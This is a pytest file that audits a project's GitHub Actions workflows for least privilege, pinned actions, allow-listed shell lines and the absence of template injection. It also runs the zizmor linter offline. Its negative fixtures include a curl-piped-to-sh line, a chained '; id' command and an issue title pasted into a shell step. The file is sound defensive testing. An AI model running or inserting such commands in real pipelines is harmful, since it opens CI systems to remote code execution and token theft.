"""The workflows hold no right that they do not need, run nothing that a county's own server could not, and are pinned."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from catalogs import CASES, ROOT

FOLDER = ROOT / ".github" / "workflows"
WORKFLOWS = sorted(FOLDER.glob("*.yml"))
RUNS = re.compile(
    r"(make [a-z./-]+|\.venv/bin/junheng [a-z][^;&|`]*|python3 scripts/github/post\.py (comment|links) [a-z./]+)"
)
"""What a shell line may be: a target of the Makefile, the command, or the errand that needs nothing installed."""
PINNED = re.compile(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$")
OK = """
on: {pull_request: {}}
permissions: {contents: read}
jobs:
  one:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2
        with: {persist-credentials: false}
      - run: make site
"""
BAD = {
    "permissions": ("permissions: {contents: read}\n", ""),
    "write-all": ("{contents: read}", "write-all"),
    "writes": ("{contents: read}", "{contents: write}"),
    "trigger": ("on: {pull_request: {}}", "on: {pull_request_target: {}}"),
    "shell": ("make site", "curl https://example.org | sh"),
    "chained": ("make site", ".venv/bin/junheng check; id"),
    "pasted": ("make site", ".venv/bin/junheng find ${{ github.event.issue.title }}"),
    "tag": ("actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2", "actions/checkout@v6"),
    "short": ("@de0fac2e4500dabe0009e67214ff5f5447ce83dd", "@de0fac2"),
    "version": (" # v6.0.2", ""),
    "credentials": ("{persist-credentials: false}", "{fetch-depth: 0}"),
}


def faults(text: str) -> Iterator[str]:
    """Yield what is wrong with a workflow."""
    flow: Any = yaml.safe_load(text)
    if "permissions" not in flow:
        yield "it has no permissions"
    rights = [flow.get("permissions") or {}, *(job.get("permissions") or {} for job in flow["jobs"].values())]
    if any(not isinstance(right, dict) for right in rights) or "write" in rights[0].values():
        yield "a right is given to the whole workflow"
    if "pull_request_target" in text:
        yield "it runs with rights for a change that anybody makes"
    yield from (f"not pinned: {line}" for line in text.splitlines() if "uses:" in line and not PINNED.search(line))
    for step in (step for job in flow["jobs"].values() for step in job["steps"]):
        yield from (f"not a line of the project: {line}" for line in _lines(step) if not RUNS.fullmatch(line))
        if "${{" in step.get("run", ""):
            yield "an expression is pasted into a shell line"
        if "checkout@" in step.get("uses", "") and step.get("with", {}).get("persist-credentials") is not False:
            yield "the token stays on the disk"


def _lines(step: Any) -> list[str]:
    return str(step.get("run", "")).strip().splitlines()


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.stem)
def test_a_workflow_is_sound(path: Path) -> None:
    assert list(faults(path.read_text(encoding="utf-8"))) == []


def test_the_sound_example_is_sound() -> None:
    assert list(faults(OK)) == []


@pytest.mark.parametrize("name", BAD)
def test_a_fault_is_found(name: str) -> None:
    old, new = BAD[name]
    assert old in OK
    assert list(faults(OK.replace(old, new))) != []


def test_every_make_target_exists() -> None:
    makefile = (ROOT / "Makefile").read_text(encoding="utf-8").replace("$(VENV)", ".venv")
    wanted = {
        target for path in WORKFLOWS for target in re.findall(r"run: make (\S+)", path.read_text(encoding="utf-8"))
    }
    assert wanted
    assert all(re.search(rf"^{re.escape(target)}:", makefile, re.MULTILINE) for target in wanted)


def test_only_one_workflow_writes_to_pull_requests_and_it_takes_no_code_from_them() -> None:
    writers = [path for path in WORKFLOWS if "pull-requests: write" in path.read_text(encoding="utf-8")]
    assert [path.stem for path in writers] == ["comment"]
    jobs = yaml.safe_load(writers[0].read_text(encoding="utf-8"))["jobs"]
    steps = jobs["comment"]["steps"]
    checkouts = [step["with"]["ref"] for step in steps if "checkout@" in step.get("uses", "")]
    assert checkouts == ["${{ github.event.repository.default_branch }}"]
    assert [line for step in steps for line in _lines(step)] == [
        "python3 scripts/github/post.py comment found/findings.txt"
    ]


def test_the_annotations_of_the_change_come_first() -> None:
    """A step shows ten annotations; the old ones of other files must not use them up."""
    text = (FOLDER / "check.yml").read_text(encoding="utf-8")
    lines = re.findall(r"run: (.venv/bin/junheng check .*)", text)
    assert lines[:2] == [
        '.venv/bin/junheng check --format github --changed-since "origin/$BASE"',
        ".venv/bin/junheng check --format github",
    ]


def _zizmor(path: Path) -> subprocess.CompletedProcess[str]:
    """Run the linter of workflows, which `make test` installs, without the network."""
    places = os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]])
    command = shutil.which("zizmor", path=places)
    assert command, "zizmor is missing: pip install --require-hashes -r requirements-dev.txt"
    words = [command, "--offline", "--no-progress", "--collect=all", str(path)]
    return subprocess.run(words, capture_output=True, text=True, check=False)


def test_zizmor_finds_nothing() -> None:
    done = _zizmor(ROOT / ".github")
    assert done.returncode == 0, done.stdout + done.stderr


def test_zizmor_can_find_something() -> None:
    done = _zizmor(CASES / "workflows" / "zizmor.yml")
    assert done.returncode > 10, done.stdout + done.stderr
    assert {"dangerous-triggers", "template-injection", "unpinned-uses"} <= set(
        re.findall(r"[a-z]+-[a-z]+(?=\])", done.stdout)
    )
